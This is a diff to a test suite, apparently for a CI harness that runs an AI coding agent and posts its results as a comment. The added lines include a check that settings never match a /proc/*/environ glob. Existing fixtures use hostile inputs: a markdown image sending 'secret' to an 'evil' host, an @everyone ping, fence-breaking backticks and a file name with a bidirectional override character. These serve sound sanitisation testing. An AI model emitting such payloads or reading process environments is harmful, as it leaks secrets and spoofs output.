@@ -248,6 +248,8 @@ describe("what a run is told and tells", () => {
       env: { CI: "true", CLAUDE_CODE_ENABLE_TELEMETRY: "1", BASH_ENV: "" },
     });
     expect(settings.permissions.allow).toContain("Bash(npm test)");
+    // WHY none: the client fills such a pattern in with processes that its sandbox has not, and no command starts.
+    expect(text).not.toMatch(/\/proc\/[^"]*\*[^"]*environ/);
     expect(settings.sandbox.network.allowedDomains).toContain("packages.example.com");
     expect(held.has("ANTHROPIC_BASE_URL")).toBe(true);
     const keys = ["autoAllowBashIfSandboxed", "network.allowedDomains", "filesystem.allowWrite"];
@@ -262,8 +264,9 @@ describe("what a run is told and tells", () => {
     expect(clientEnding(`x\n{"type":"system"}\n${JSON.stringify(result)}\n`)).toEqual({
       answer: "done",
       denials: [{ tool: "Bash", id: "t1" }],
+      calls: [],
     });
-    expect(clientEnding("")).toEqual({ answer: "", denials: [] });
+    expect(clientEnding("")).toEqual({ answer: "", denials: [], calls: [] });
   });
 });
 
@@ -289,6 +292,7 @@ describe("the comment", () => {
         asked: true,
       },
     ],
+    hindered: [],
     changed: ["a`b|c\u202Ed.js"],
     answer: "```\n@everyone ![x](http://evil/?q=secret)\n````\n</details>",
     log: { entries: 3, isVerified: true, proof: null, meant: null },
